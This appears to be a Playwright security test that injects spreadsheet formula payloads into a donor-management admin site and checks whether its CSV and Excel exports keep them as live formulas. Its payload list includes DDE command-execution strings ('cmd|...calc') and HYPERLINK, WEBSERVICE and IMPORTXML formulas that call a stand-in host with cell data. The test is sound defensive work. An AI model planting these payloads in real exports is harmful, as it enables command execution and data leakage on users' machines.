/** Formulas in every column, exported by every button that makes a spreadsheet file. */
import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { strFromU8, unzipSync } from 'fflate'
import { readCsv } from '#domain/csv/read-csv.ts'
import { dropChecks, fillBackOffice, fillSite } from './fill.ts'
import type { Outcome } from './outcome.ts'
import { signIn } from './sign-in.ts'
import type { Target } from './target.ts'
import { openWatchedBrowser } from './watched-browser.ts'

export const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://canary.invalid/?"&A1,"press")',
  '=WEBSERVICE("http://canary.invalid/")',
  '=IMPORTXML("http://canary.invalid/","//a")',
  '+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '@cmd|calc!A0',
  '"=1+1',
  '",=1+1,"',
  '"\r\n=1+1,"',
  ';=1+1',
  "'=1+1",
  "''=1+1",
  '%0A=1+1',
  '=1+1\n=2+2',
  '</t></is><f>1+1</f>',
  '&#61;1+1',
]

/** Buttons pressed in sequence; the last one downloads the file. */
type Exported = { path: string; buttons: string[] }

const EXPORTS: Exported[] = [
  { path: '/admin/donors', buttons: ['Export', 'CSV of these donors'] },
  { path: '/admin/donors', buttons: ['Export', 'Excel of these donors'] },
  { path: '/admin/donations', buttons: ['Export as CSV'] },
  { path: '/admin/mis-dashboard', buttons: ['Export CSV'] },
  { path: '/admin/mis-dashboard', buttons: ['Export Excel'] },
  { path: '/admin/inbox', buttons: ['Export CSV'] },
]

export async function attackExports(target: Target): Promise<Outcome> {
  const findings: string[] = []
  let cells = 0
  const look = async (name: string, saved: Promise<string>) => {
    const rows = cellsOf(await saved)
    cells += rows.length
    if (!rows.some((cell) => cell.includes('1+1'))) findings.push(`${name} holds none of the formulas`)
    for (const cell of rows.filter(isFormula)) findings.push(`${name} holds ${JSON.stringify(cell)}`)
  }
  await dropChecks(target)
  await fillSite(target, { url: '=1+1', text: '=1+1' })
  await fillBackOffice(target, { url: '=1+1', text: '=1+1' }, FORMULAS)
  const browser = await openWatchedBrowser(target.url, 1, await signIn(target))
  const [page] = browser.pages
  if (!page) throw new Error('No tab was opened')
  for (const { path, buttons } of EXPORTS) {
    await page.goto(path)
    const press = async () => {
      for (const name of buttons) await page.getByRole('button', { name }).first().click()
    }
    await look(`${path}: ${buttons.join(', ')}`, downloaded(page, press))
  }
  await look('The rows that an import refused', refusedRows(page))
  await browser.close()
  return {
    attack: 'formula cells in every export (cells)',
    count: cells,
    findings: [...findings, ...browser.findings],
  }
}

async function refusedRows(page: Page): Promise<string> {
  const lines = FORMULAS.map((formula) => `"${formula.replaceAll('"', '""')}",a lot`)
  await page.goto('/admin/donors/import')
  const file = {
    name: 'list.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from(`name,amount\r\n${lines.join('\r\n')}`),
  }
  await page.getByLabel('List of donors').setInputFiles(file)
  await page.getByLabel('amount').selectOption('Amount Donated (INR)')
  await page.getByRole('button', { name: 'Check the rows' }).click()
  return downloaded(page, () => page.getByRole('button', { name: 'Download these rows' }).click())
}

/** Path of the saved file. */
async function downloaded(page: Page, press: () => Promise<void>): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent('download'), press()])
  return download.path()
}

/** The cells of a CSV file or workbook; a workbook's formula is marked by its sign. */
export function cellsOf(path: string): string[] {
  const bytes = readFileSync(path)
  if (bytes.subarray(0, 2).toString() !== 'PK') {
    const [, ...rows] = readCsv(bytes.toString('utf8').replace(/^\ufeff/, '')).rows
    return rows.flatMap((row) => row.cells)
  }
  const sheets = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/'))
  const xml = sheets.map(([, sheet]) => strFromU8(sheet)).join('')
  // Values stored as text are text, whatever they begin with.
  const texts = [...xml.matchAll(/t="inlineStr"><is><t[^>]*>([^<]*)/g)].map(([, text = '']) => `text ${text}`)
  const formulas = [...xml.matchAll(/<f[ >]/g)].map(() => '=a formula')
  return [...texts, ...formulas]
}

/** As spreadsheets see it: skips blanks, and includes full-width forms. Excludes numbers. */
export function isFormula(cell: string): boolean {
  return /^\s*[=+\-@＝＋－＠]|^[\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)
}
